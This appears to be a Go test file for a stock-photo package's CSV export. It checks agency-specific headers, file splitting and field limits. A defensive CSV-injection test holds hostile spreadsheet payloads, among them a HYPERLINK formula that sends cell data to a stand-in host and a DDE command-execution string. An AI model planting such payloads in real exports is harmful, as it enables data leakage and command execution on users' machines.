package stock

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestAdobeCSVExactHeader(t *testing.T) {
	var b bytes.Buffer
	w, err := NewCSVWriter(&b, mustLookup(t, "adobe"))
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(Row{File: "a.jpg", Metadata: Metadata{Title: "Red rocket", Keywords: []string{"rocket", "launch", "space"}, Categories: []string{"20"}}}); err != nil {
		t.Fatal(err)
	}
	want := "Filename,Title,Keywords,Category,Releases\na.jpg,Red rocket,\"rocket, launch, space\",20,\n"
	if b.String() != want {
		t.Errorf("got %q\nwant %q", b.String(), want)
	}
}

func TestCSVHeadersPerAgency(t *testing.T) {
	want := map[string]string{
		"adobe":        "Filename,Title,Keywords,Category,Releases\n",
		"shutterstock": "Filename,Description,Keywords,Categories,Illustration,Mature Content,Editorial\n",
		"freepik":      "Filename;Title;Keywords;Prompt;Model\n",
		"vecteezy":     "Filename,Title,Description,Keywords,License\n",
		"dreamstime":   "Filename,Title,Description,Keywords,Category\n",
	}
	for name, h := range want {
		var b bytes.Buffer
		w, err := NewCSVWriter(&b, mustLookup(t, name))
		if err != nil {
			t.Fatal(err)
		}
		w.Flush()
		if b.String() != h {
			t.Errorf("%s header %q, want %q", name, b.String(), h)
		}
		if bytes.HasPrefix(b.Bytes(), []byte("\xef\xbb\xbf")) {
			t.Errorf("%s: unexpected BOM", name)
		}
	}
	for _, name := range []string{"getty", "envato", "pond5"} {
		if _, err := NewCSVWriter(io.Discard, mustLookup(t, name)); !errors.Is(err, ErrNoCSV) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestShutterstockCSV(t *testing.T) {
	var b bytes.Buffer
	w, _ := NewCSVWriter(&b, mustLookup(t, "shutterstock"))
	w.Write(Row{File: "c.jpg", Metadata: Metadata{Title: "Cat", Keywords: []string{"cat", "pet"}, Categories: []string{"Animals/Wildlife", "Holidays"}}, Editorial: true})
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Join(recs[1], "|")
	if got != "c.jpg|Cat|cat,pet|Animals/Wildlife,Holidays|No|No|Yes" {
		t.Errorf("row = %s", got)
	}
}

var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1+1)",
	"\t=1+1",
	"\r=1+1",
	"  =1+1",
	`he said "hi", then left`,
	"line1\nline2\r\nline3",
	"a,b;c",
	"＝1+1",
	"\"",
	"\x00\x1b[31m",
}

func TestCSVInjection(t *testing.T) {
	for _, p := range Profiles() {
		if p.CSV == nil {
			continue
		}
		t.Run(p.Name, func(t *testing.T) {
			var b bytes.Buffer
			w, err := NewCSVWriter(&b, p)
			if err != nil {
				t.Fatal(err)
			}
			for _, h := range hostile {
				m := Metadata{Title: h, Description: h, Keywords: []string{h, "ok"}, Categories: []string{h}}
				if err := w.Write(Row{File: h + ".jpg", Metadata: m, Releases: h, Prompt: h, Model: h, License: h}); err != nil {
					t.Fatal(err)
				}
			}
			r := csv.NewReader(bytes.NewReader(b.Bytes()))
			r.Comma = p.CSV.Comma
			r.FieldsPerRecord = len(p.CSV.Columns)
			recs, err := r.ReadAll()
			if err != nil {
				t.Fatalf("output does not parse: %v", err)
			}
			if len(recs) != len(hostile)+1 {
				t.Fatalf("%d records, want %d (a name broke a row)", len(recs), len(hostile)+1)
			}
			if lines := bytes.Count(b.Bytes(), []byte("\n")); lines != len(hostile)+1 {
				t.Errorf("%d physical lines; portals split rows at line breaks", lines)
			}
			for i, rec := range recs[1:] {
				if rec[0] != SafeCell(hostile[i]+".jpg") {
					t.Errorf("file cell %q", rec[0])
				}
				for _, cell := range rec {
					c := strings.TrimLeft(cell, " ")
					if c != "" && strings.ContainsRune("=+-@\t\r＝", []rune(c)[0]) {
						t.Errorf("cell %q starts a formula", cell)
					}
					if strings.ContainsAny(cell, "\r\n\x00") {
						t.Errorf("cell %q has a control character", cell)
					}
				}
			}
		})
	}
}

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1":         "'=1+1",
		"well-lit":     "well-lit",
		"a-b, -c":      "a-b, -c",
		"-":            "'-",
		"":             "",
		"x\ny":         "x y",
		" @x":          "' @x",
		"crème brûlée": "crème brûlée",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

type memFile struct {
	bytes.Buffer
	closed bool
}

func (m *memFile) Close() error { m.closed = true; return nil }

func TestSplitWriterRows(t *testing.T) {
	var parts []*memFile
	sw, err := NewSplitWriter(mustLookup(t, "adobe"), func(part int) (io.WriteCloser, error) {
		if part != len(parts)+1 {
			t.Fatalf("part %d after %d", part, len(parts))
		}
		f := &memFile{}
		parts = append(parts, f)
		return f, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for i := range 10001 {
		if err := sw.Write(Row{File: fmt.Sprintf("f%05d.jpg", i), Metadata: Metadata{Title: "t", Keywords: []string{"k"}}}); err != nil {
			t.Fatal(err)
		}
	}
	if err := sw.Close(); err != nil {
		t.Fatal(err)
	}
	if len(parts) != 3 || sw.Parts() != 3 {
		t.Fatalf("%d parts", len(parts))
	}
	total := 0
	for i, p := range parts {
		if !p.closed {
			t.Errorf("part %d not closed", i+1)
		}
		recs, err := csv.NewReader(bytes.NewReader(p.Bytes())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if strings.Join(recs[0], ",") != "Filename,Title,Keywords,Category,Releases" {
			t.Errorf("part %d header %q", i+1, recs[0])
		}
		if len(recs)-1 > 5000 {
			t.Errorf("part %d has %d rows", i+1, len(recs)-1)
		}
		total += len(recs) - 1
	}
	if total != 10001 {
		t.Errorf("%d rows in all", total)
	}
}

func TestSplitWriterBytes(t *testing.T) {
	var parts []*memFile
	sw, _ := NewSplitWriter(mustLookup(t, "adobe"), func(int) (io.WriteCloser, error) {
		f := &memFile{}
		parts = append(parts, f)
		return f, nil
	})
	kw := make([]string, 49)
	for i := range kw {
		kw[i] = strings.Repeat("é", 10) + fmt.Sprint(i) // about 1 KB of keywords per row
	}
	for i := range 3000 {
		if err := sw.Write(Row{File: fmt.Sprint(i, ".jpg"), Metadata: Metadata{Title: "x", Keywords: kw}}); err != nil {
			t.Fatal(err)
		}
	}
	sw.Close()
	if len(parts) < 3 {
		t.Fatalf("%d parts for ~3.5 MB", len(parts))
	}
	rows := 0
	for i, p := range parts {
		if p.Len() > 1<<20 {
			t.Errorf("part %d is %d bytes", i+1, p.Len())
		}
		if !utf8.Valid(p.Bytes()) {
			t.Errorf("part %d is not UTF-8", i+1)
		}
		recs, err := csv.NewReader(bytes.NewReader(p.Bytes())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		rows += len(recs) - 1
	}
	if rows != 3000 {
		t.Errorf("%d rows", rows)
	}
	// One row larger than a whole file is refused.
	huge := Row{File: "h.jpg", Releases: strings.Repeat("x", 1<<20)}
	if err := sw.Write(huge); !errors.Is(err, ErrTooLarge) {
		t.Errorf("huge row: %v", err)
	}
}

func TestSplitWriterEmptyBatch(t *testing.T) {
	var parts []*memFile
	sw, _ := NewSplitWriter(mustLookup(t, "adobe"), func(int) (io.WriteCloser, error) {
		f := &memFile{}
		parts = append(parts, f)
		return f, nil
	})
	if err := sw.Close(); err != nil {
		t.Fatal(err)
	}
	if len(parts) != 1 || parts[0].String() != "Filename,Title,Keywords,Category,Releases\n" {
		t.Fatalf("parts = %d", len(parts))
	}
}

func TestCSVWriterEnforcesLimits(t *testing.T) {
	var b bytes.Buffer
	w, _ := NewCSVWriter(&b, mustLookup(t, "adobe"))
	kw := make([]string, 80)
	for i := range kw {
		kw[i] = fmt.Sprint("k", i)
	}
	w.Write(Row{File: "a.jpg", Metadata: Metadata{Title: strings.Repeat("long title ", 20), Keywords: kw}})
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if n := utf8.RuneCountInString(recs[1][1]); n > 70 {
		t.Errorf("title of %d characters", n)
	}
	if n := len(strings.Split(recs[1][2], ", ")); n != 49 {
		t.Errorf("%d keywords", n)
	}
}
